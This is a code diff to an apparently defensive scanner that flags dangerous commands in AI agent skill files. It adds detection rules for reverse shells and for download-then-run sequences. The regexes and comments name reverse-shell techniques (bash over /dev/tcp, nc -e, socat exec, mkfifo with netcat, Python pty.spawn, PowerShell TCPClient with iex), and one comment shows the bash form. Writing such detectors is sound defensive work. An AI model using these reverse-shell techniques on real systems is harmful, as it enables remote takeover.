@@ -1,5 +1,6 @@
 """Commands: remote code (SK630), decoded payloads (SK631), unpinned or URL installs (SK632,
-SK633), agents run without permission checks (SK662) and destructive commands (SK663).
+SK633), reverse shells (SK634), agents run without permission checks (SK662) and destructive
+commands (SK663).
 
 They are looked for in every text file, prose included: a skill's Markdown is instructions the
 agent follows, so a command in it is as good as run.
@@ -31,10 +32,18 @@ KNOWN_INSTALLER_REPOS = ("Homebrew/", "nvm-sh/", "helm/", "pyenv/", "ohmyzsh/", 
 _SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/bin/|/bin/)?"
 _RUNNER = (r"(?:(?:ba|z|da|k|fi|c)?sh\b(?:\s+-[sx]\b|\s+-(?=\s|$)|\s+--(?=\s))?|python[23]?(?:\.\d+)?(?=\s*(?:$|[;&|)#\"'`]|-\s))|"
            r"node(?=\s*(?:$|[;&|)#\"'`]|-\s))|perl(?=\s*(?:$|[;&|)#]))|ruby(?=\s*(?:$|[;&|)#]))|"
-           r"php(?=\s*(?:$|[;&|)#]))|pwsh\b|powershell\b|iex\b|Invoke-Expression\b|source\b(?=\s*(?:$|[;&|)]|/dev/stdin)))")
+           r"php(?=\s*(?:$|[;&|)#]))|pwsh\b|powershell\b|iex\b|Invoke-Expression\b|source\b(?=\s*(?:$|[;&|)]|/dev/stdin))|"
+           r"\$\{?SHELL\b\}?)")
 _DOWNLOAD = r"(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|aria2c)"
 _DL = "curl wget iwr irm invoke-web invoke-rest aria2c"
-_PIPE_WORDS = (f"{_DL}", f"{_DL}", f"{_DL}", f"{_DL}", "iex invoke-expression", "exec eval", "fetch")
+#: A download saved to a file (``-o FILE``, ``-O FILE``, ``> FILE``), then that file run, at once or
+#: after one more command (``chmod +x``), on the same line or the next.
+_SAVED_THEN_RUN = (
+    r"\b(?:curl|wget)\b[^\n;&|]*?(?:\s-o\s*|\s--output[= ]\s*|\s-O\s*(?!-)|\s--output-document[= ]\s*|\s*>\s*)"
+    r"[\"']?(?P<file>(?:[\w.~$/-]*/)?[\w.-]+)[\"']?[^\n]*?(?:&&|;|\n)(?:[^\n]*?(?:&&|;|\n))?\s*"
+    r"(?:sudo\s+(?:-\S+\s+)*)?(?:(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|powershell)\s+"
+    r"(?:-\S+\s+)*[\"']?(?:\./)?|\./)?(?P=file)(?![\w.-])")
+_PIPE_WORDS = (f"{_DL}", f"{_DL}", f"{_DL}", f"{_DL}", "iex invoke-expression", "exec eval", "fetch", "curl wget")
 _PIPE_TO_SHELL: list[Gate] = [gate(p, words, "|" if i == 0 else "") for i, (words, p) in enumerate(zip(_PIPE_WORDS, (
     rf"\b{_DOWNLOAD}\b[^\n|;]*(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}",
     rf"\b(?:(?:ba|z)?sh|python[23]?|node|perl)\s+(?:-\w+\s+)*[\"']?\$\(\s*{_DOWNLOAD}\b[^\n)]*\)",
@@ -44,6 +53,7 @@ _PIPE_TO_SHELL: list[Gate] = [gate(p, words, "|" if i == 0 else "") for i, (word
     r"DownloadString|\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)[^\n]*",
     r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get)\s*\([^\n]*",
     r"\b(?:eval|new\s+Function|Function)\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\s*\([^\n]*",
+    _SAVED_THEN_RUN,
 )))]
 
 _DECODERS = (r"b64decode|decodebytes|decodestring|a85decode|b32decode|fromhex|unhexlify|a2b_hex|a2b_base64|"
@@ -67,6 +77,24 @@ _DECODED_EXEC: list[Gate] = [gate(p, words) for words, p in zip(_DECODED_WORDS, 
     r"\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}",
     r"\bFromBase64String\b[^\n]{0,200}\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,200}"
     r"FromBase64String",
+))]
+
+#: A shell wired to a network connection (to another machine: /dev/tcp to localhost is a bash
+#: port check or HTTP request).
+_DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
+_REVERSE_SHELL_WORDS = ("/dev/tcp /dev/udp", "/dev/tcp /dev/udp", "-e -c", "exec:", "mkfifo", "pty.spawn", "fileno",
+                        "tcpclient")
+_REVERSE_SHELL: list[Gate] = [gate(p, words) for words, p in zip(_REVERSE_SHELL_WORDS, (
+    rf"\b(?:ba|z|da|k)?sh\b[^\n]*?(?:>&|&>|<>)\s*{_DEV_TCP}",         # bash -i >& /dev/tcp/host/port 0>&1
+    rf"{_DEV_TCP}[^\n]*?\b(?:ba|z|da|k)?sh\b[^\n]*?<&\s*\d",           # exec 5<>/dev/tcp/...; sh <&5 >&5
+
+    r"\b(?:nc|ncat|netcat)\b[^\n|;]*\s-[ec]\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b",
+    r"\bsocat\b[^\n]*\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b",
+    r"\bmkfifo\b[^\n]*\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]*\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b",
+    r"\bsocket\b[^\n]{0,300}\bconnect\s*\([^\n]{0,300}\bpty\.spawn\s*\(\s*[\"'](?:/bin/)?(?:ba|z)?sh",
+    r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
+    r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)",
+    r"\bNet\.Sockets\.TCPClient\b[^\n]{0,600}\b(?:iex|Invoke-Expression)\b",
 ))]
 
 _GIT_URL = gate(r"\bgit\+(?:https?|ssh|git|file)://[^\s\"'`#,;)\]]+(?:#[^\s\"'`,;)\]]*)?", "git+")
@@ -148,6 +176,9 @@ def _remote_code(doc: Document) -> Iterator[Hit]:
     for pattern in _DECODED_EXEC:
         for match in pattern.finditer(doc):
             yield Hit("SK631", match.start(), match.end())
+    for pattern in _REVERSE_SHELL:
+        for match in pattern.finditer(doc):
+            yield Hit("SK634", match.start(), match.end())
 
 
 def _supply_chain(doc: Document) -> Iterator[Hit]:
@@ -194,7 +225,7 @@ def _dangerous(doc: Document) -> Iterator[Hit]:
 
 
 def check_code(doc: Document) -> Iterator[Hit]:
-    """SK630-SK633, SK662 and SK663 in one document."""
+    """SK630-SK634, SK662 and SK663 in one document."""
     yield from _remote_code(doc)
     yield from _supply_chain(doc)
     yield from _dangerous(doc)
